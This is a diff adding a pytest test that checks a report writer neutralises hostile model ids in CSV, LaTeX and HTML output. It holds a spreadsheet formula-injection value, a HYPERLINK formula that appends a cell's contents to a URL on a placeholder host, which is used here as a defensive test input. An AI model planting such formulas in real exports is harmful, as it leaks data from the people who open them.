@@ -167,3 +167,31 @@ def test_control_characters_cannot_break_a_markdown_row(tmp_path):
     assert any("model with control chars" in row for row in table_rows)
     assert "\r" not in path.read_text() and "\x1b" not in path.read_text()
     assert escape_markdown("a\rb\nc\x00d") == "a b c d"
+
+
+def test_formula_brackets_and_dollars_in_a_model_id_are_inert(tmp_path):
+    """A model id is untrusted text: as a CSV cell it must not start a spreadsheet formula, in LaTeX a
+    leading [ must not be read as \\\\'s optional length, and in the plots "$...$" is not mathtext
+    (a malformed formula made savefig raise: no page was written)."""
+    runs = []
+    for i, model in enumerate(("=HYPERLINK(\"http://x.example/?\"&A2)", "[ablation] a $\\frac$ b")):
+        run = make_run(tmp_path / "out" / str(i), f"m{i}", ["the cat sat", "a quick brown fox", "hello world", "one"])
+        results = json.loads((run / "results.json").read_text())
+        results["model"]["id"] = model
+        (run / "results.json").write_text(json.dumps(results))
+        runs.append(run)
+    csv_path, latex_path, html_path = write_report(runs, tmp_path / "report", ["csv", "latex", "html"])
+    models = [line.split(",", 1)[0] for line in csv_path.read_text().splitlines()[1:]]
+    assert models and not any(m.lstrip('"').startswith(("=", "+", "-", "@")) for m in models)
+    assert any(m.lstrip('"').startswith("'=HYPERLINK") for m in models)
+    latex = latex_path.read_text()
+    assert "{[}ablation{]}" in latex and "\n[ablation]" not in latex
+    assert "a $\\frac$ b" in html_path.read_text() or "a $\\\\frac$ b" in html_path.read_text()
+    engine = shutil.which("pdflatex")
+    if engine and subprocess.run([shutil.which("kpsewhich") or "false", "booktabs.sty"], capture_output=True,
+                                 text=True).stdout.strip():
+        document = tmp_path / "table.tex"
+        document.write_text("\\documentclass{article}\\usepackage{booktabs}\\begin{document}\n" + latex
+                            + "\\end{document}\n")
+        subprocess.run([engine, "-interaction=nonstopmode", "-halt-on-error", document.name], cwd=tmp_path,
+                       check=True, capture_output=True, timeout=120)
